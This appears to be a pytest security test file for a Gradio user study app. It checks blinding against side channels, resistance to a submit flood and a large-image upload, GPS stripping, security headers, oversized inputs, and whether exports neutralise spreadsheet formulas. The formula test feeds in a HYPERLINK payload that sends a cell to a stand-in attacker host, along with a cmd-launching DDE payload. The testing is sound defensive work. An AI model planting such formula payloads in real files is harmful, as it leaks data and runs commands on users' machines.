"""A curious or hostile participant, through the real request path (gradio_client and raw HTTP).

- Blinding survives measurement: over 24 sessions, nothing a participant can observe of the served grids
  (byte lengths, pixel sizes, headers, response order, fetch times) predicts which letter is the generative
  arm better than chance, and the letters cannot be rebuilt from the study file.
- One client cannot take the study down: a flood of failing Submits leaves ten participants unharmed.
- The smaller holes: answers for grids never shown, several sessions from one tab, originals with GPS left
  in Gradio's folder, spreadsheet formulas in exports, missing security headers, huge values echoed.
"""
from __future__ import annotations

import hashlib
import io
import json
import random
import struct
import threading
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from gradio_client import handle_file
from PIL import Image
from scipy.stats import binomtest

from study.design import assignment
from tests.app_fixtures import (
    ARM_NAMES,
    LETTERS4,
    PASSWORD,
    Answers,
    answer_grids,
    client,
    finish,
    give_preference,
    outputs,
    photos,
    shared_app,
    value,
)

GENERATIVE = ARM_NAMES[3]
SESSIONS = 24
VOLATILE_HEADERS = {"date", "etag", "last-modified"}  # the time of the request, not the picture


def _fetch(url: str) -> tuple[bytes, dict[str, str], float]:
    t = time.perf_counter()
    with urllib.request.urlopen(url, timeout=30) as r:
        data = r.read()
        headers = {k.lower(): v for k, v in r.headers.items()}
    return data, headers, time.perf_counter() - t


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


def _observe(app, k: int) -> tuple[str, dict[str, list[dict]], list[str]]:
    """One participant's session, and everything they could measure of each letter's four cells."""
    c = client(app.url)
    sid = value(outputs(c.predict(api_name="/consent"))["link"])
    page = give_preference(c, f"participant {k}: soft cotton summer dresses in light colours")
    order = [name for name in page if name.startswith("img_")]  # the order the response lists the cells in
    seen: dict[str, list[dict]] = {x: [] for x in LETTERS4}
    for name in order:
        data, headers, seconds = _fetch(page[name]["url"])
        seen[name[4]].append({"bytes": len(data), "size": _png_size(data), "seconds": seconds, "data": data,
                              "headers": {h: v for h, v in headers.items() if h not in VOLATILE_HEADERS}})
    return sid, seen, order


@pytest.fixture(scope="module")
def observed():
    app = shared_app()
    with ThreadPoolExecutor(4) as pool:
        sessions = list(pool.map(lambda k: _observe(app, k), range(7000, 7000 + SESSIONS)))
    with app.db() as conn:
        truth = {sid: conn.execute("SELECT letter FROM assignments WHERE session_id = ? AND arm = ?",
                                   (sid, GENERATIVE)).fetchone()[0] for sid, _, _ in sessions}
    return app, sessions, truth


def _predict(seen: dict[str, list[dict]], score, rng: random.Random, highest: bool) -> str:
    """The letter whose grid scores highest (or lowest); ties broken at random, as a guesser must."""
    scores = {x: score(cells) for x, cells in seen.items()}
    best = (max if highest else min)(scores.values())
    return rng.choice(sorted(x for x, s in scores.items() if s == best))


FEATURES = {
    "total bytes": lambda cells: sum(c["bytes"] for c in cells),
    "largest cell": lambda cells: max(c["bytes"] for c in cells),
    "pixels": lambda cells: sum(c["size"][0] * c["size"][1] for c in cells),
    "header bytes": lambda cells: sum(len(json.dumps(c["headers"], sort_keys=True)) for c in cells),
    "fetch time": lambda cells: sum(c["seconds"] for c in cells),
    "slowest fetch": lambda cells: max(c["seconds"] for c in cells),
}


def test_nothing_a_participant_can_measure_finds_the_generative_grid(observed):
    app, sessions, truth = observed
    lengths = {c["bytes"] for _, seen, _ in sessions for cells in seen.values() for c in cells}
    sizes = {c["size"] for _, seen, _ in sessions for cells in seen.values() for c in cells}
    headers = {json.dumps(c["headers"], sort_keys=True) for _, seen, _ in sessions for cells in seen.values()
               for c in cells}
    assert len(lengths) == 1 and len(sizes) == 1, (lengths, sizes)  # every cell the same bytes long and size
    assert len(headers) == 1, headers  # and served with the same headers
    assert {tuple(order) for _, _, order in sessions} == {tuple(sorted(sessions[0][2]))}  # always A1..D4 order

    rng = random.Random(0)
    rules = [(name, highest) for name in FEATURES for highest in (True, False)]
    for name, highest in rules:
        hits = sum(_predict(seen, FEATURES[name], rng, highest) == truth[sid] for sid, seen, _ in sessions)
        p = binomtest(hits, SESSIONS, 0.25, alternative="greater").pvalue
        assert p * len(rules) > 0.01, f"{name} ({'max' if highest else 'min'}) finds the generative grid {hits}/24"


def test_the_check_has_teeth_compressed_sizes_would_have_told(observed):
    """What the same classifier finds on the cells compressed as they were served before (PNG level 1)."""
    _, sessions, truth = observed

    def compressed(cells):
        out = 0
        for c in cells:
            buf = io.BytesIO()
            Image.open(io.BytesIO(c["data"])).save(buf, format="png", compress_level=1)
            out += len(buf.getvalue())
        return out

    rng = random.Random(0)
    hits = max(sum(_predict(seen, compressed, rng, h) == truth[sid] for sid, seen, _ in sessions) for h in (True, False))
    assert binomtest(hits, SESSIONS, 0.25, alternative="greater").pvalue < 0.001, hits


def test_the_assignment_cannot_be_rebuilt_from_the_study_file(observed):
    app, sessions, _ = observed
    study = app.study
    arms = [a.name for a in study.arms]
    public = [study.seed, str(study.seed), study.name, hashlib.sha256(study.path.read_bytes()).hexdigest()]
    with app.db() as conn:
        rows = conn.execute("SELECT session_id, order_index FROM sessions WHERE status != 'withdrawn'").fetchall()
        actual = {sid: dict(conn.execute("SELECT letter, arm FROM assignments WHERE session_id = ?", (sid,)).fetchall())
                  for sid, _ in rows}
        secret = conn.execute("SELECT value FROM meta WHERE key = 'secret:assignment'").fetchone()[0]
    assert all(assignment(arms, idx, secret) == actual[sid] for sid, idx in rows)  # the database's secret does
    for key in public:  # anything a participant could read off the published study file does not
        hits = sum(assignment(arms, idx, key) == actual[sid] for sid, idx in rows)
        assert binomtest(hits, len(rows), 0.25, alternative="greater").pvalue > 0.001, (key, hits, len(rows))
    for text in (study.path.read_text(), urllib.request.urlopen(app.url + "config", timeout=30).read().decode()):
        assert secret not in text


def test_a_flood_of_failing_submits_from_one_client_leaves_ten_participants_unharmed(tmp_path):
    app = shared_app()
    attacker = client(app.url, "198.51.100.200")
    value(outputs(attacker.predict(api_name="/consent"))["link"])
    huge = tmp_path / "huge.png"
    Image.new("RGB", (5000, 5000), (255, 255, 255)).save(huge)  # 25 megapixels in a few kilobytes
    stop = threading.Event()
    refusals: list[str] = []
    accepted: list[str] = []

    def flood() -> None:
        c = client(app.url, "198.51.100.200")
        c.predict(api_name="/consent")
        deadline = time.monotonic() + 30
        while not stop.is_set() and time.monotonic() < deadline:
            for files in ([photos(1)[0], huge], []):
                try:
                    c.predict("x", [handle_file(str(f)) for f in files], None, "any", "", api_name="/submit_preference")
                    accepted.append("submit")
                except Exception as e:  # noqa: BLE001 — every refusal counted
                    refusals.append(str(e)[:120])

    attackers = [threading.Thread(target=flood) for _ in range(4)]
    for t in attackers:
        t.start()
    time.sleep(2)
    errors: list[str] = []

    def participant(k: int) -> None:
        try:
            c = client(app.url)
            sid = value(outputs(c.predict(api_name="/consent"))["link"])
            page = give_preference(c, f"participant {k}: navy linen shirts")
            assert all(page[f"img_{x}{i}"] for x in LETTERS4 for i in range(1, 5)), sid
        except Exception as e:  # noqa: BLE001
            errors.append(f"{k}: {type(e).__name__}: {e}"[:300])

    with ThreadPoolExecutor(5) as pool:
        list(pool.map(participant, range(8000, 8010)))
    stop.set()
    for t in attackers:
        t.join(60)
    assert errors == []
    assert refusals and not accepted
    assert any("Too many" in r or "429" in r or "already being prepared" in r for r in refusals), refusals[:5]


def test_answers_about_grids_never_shown_are_refused():
    app = shared_app()
    c = client(app.url)
    sid = value(outputs(c.predict(api_name="/consent"))["link"])
    for call in (lambda: c.predict(7, api_name="/rate_A"), lambda: c.predict("Yes", "No", "No", "No", api_name="/wear_B"),
                 lambda: c.predict("hi", api_name="/feedback_C"), lambda: c.predict("A", "B", "C", api_name="/rank")):
        with pytest.raises(Exception, match="recommendations first"):
            call()
    with app.db() as conn:
        for table in ("ratings", "relevance", "feedback", "ranks"):
            assert conn.execute(f"SELECT COUNT(*) FROM {table} WHERE session_id = ?", (sid,)).fetchone()[0] == 0


def test_five_consents_at_once_from_one_tab_make_one_session():
    app = shared_app()
    c = client(app.url)
    jobs = [c.submit(api_name="/consent") for _ in range(5)]
    links = {value(outputs(j.result(timeout=60))["link"]) for j in jobs}
    assert len(links) == 1


def _photo_with_gps(path: Path) -> Path:
    im = Image.open(photos(1)[0])
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (52.0, 31.0, 12.0), "E", (13.0, 24.0, 36.0)
    im.save(path, exif=exif.tobytes())
    assert Image.open(path).getexif().get_ifd(0x8825)
    return path


def test_uploaded_originals_with_gps_do_not_stay_in_gradios_folder(tmp_path):
    app = shared_app()
    original = _photo_with_gps(tmp_path / "holiday.jpg")
    c = client(app.url)
    c.predict(api_name="/consent")
    give_preference(c, "striped shirts", [original, photos(2)[1]])
    copies = [p for p in app.temp_dir.rglob("holiday.jpg")]
    assert copies, "Gradio keeps uploads under its temp folder by their name"
    for p in copies:
        data = p.read_bytes()
        assert data != original.read_bytes()
        assert not Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)  # no location, no camera
        assert b"PhoneMaker" not in data


def test_feedback_that_is_a_spreadsheet_formula_is_exported_inert():
    app = shared_app()
    c = client(app.url)
    c.predict(api_name="/consent")
    a = Answers.make(9100)
    a.feedback["B"] = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
    a.overall = "+cmd|' /C calc'!A0"
    give_preference(c, a.text)
    answer_grids(c, a)
    finish(c, a)
    req = urllib.request.Request(app.url + "gradio_api/call/researcher_export",
                                 data=json.dumps({"data": [PASSWORD]}).encode(),
                                 headers={"Content-Type": "application/json", "X-Forwarded-For": "198.51.100.250"})
    with urllib.request.urlopen(req, timeout=30) as r:
        event = json.loads(r.read())["event_id"]
    with urllib.request.urlopen(f"{app.url}gradio_api/call/researcher_export/{event}", timeout=120) as r:
        stream = r.read().decode()
    files = json.loads(stream.split("event: complete\ndata: ", 1)[1].splitlines()[0])[0]
    url = next(f["url"] for f in files if f["url"].endswith("feedback.csv"))
    text = urllib.request.urlopen(url, timeout=30).read().decode()
    assert "'=HYPERLINK" in text and "'+cmd" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_every_response_carries_the_security_headers():
    app = shared_app()
    for path in ("", "config", "gradio_api/info"):
        with urllib.request.urlopen(app.url + path, timeout=30) as r:
            h = {k.lower(): v for k, v in r.headers.items()}
        assert h.get("x-content-type-options") == "nosniff"
        assert h.get("x-frame-options") == "SAMEORIGIN"
        assert "frame-ancestors" in h.get("content-security-policy", "")


def test_a_huge_value_is_refused_before_it_is_read_and_never_echoed():
    app = shared_app()
    huge = "Z" * (20 * 1024 * 1024)
    req = urllib.request.Request(app.url + "gradio_api/call/feedback_overall",
                                 data=json.dumps({"data": [huge]}).encode(),
                                 headers={"Content-Type": "application/json", "X-Forwarded-For": "198.51.100.251"})
    try:  # refused after the first part of the body: a 413, or a closed connection while the rest is sent
        urllib.request.urlopen(req, timeout=60)
        pytest.fail("a 20 MB value was accepted")
    except urllib.error.HTTPError as refused:
        assert refused.code == 413
        body = refused.read()
        assert len(body) < 1000 and b"ZZZZ" not in body
    except (urllib.error.URLError, ConnectionError):
        pass
    small = json.dumps({"data": ["Z" * 200_000]}).encode()  # over the cap but small enough to be answered
    req = urllib.request.Request(app.url + "gradio_api/call/feedback_overall", data=small,
                                 headers={"Content-Type": "application/json", "X-Forwarded-For": "198.51.100.251"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(req, timeout=60)
    assert refused.value.code == 413 and b"ZZZZ" not in refused.value.read()
    assert "ZZZZZZZZZZZZZZZZ" not in app.log()
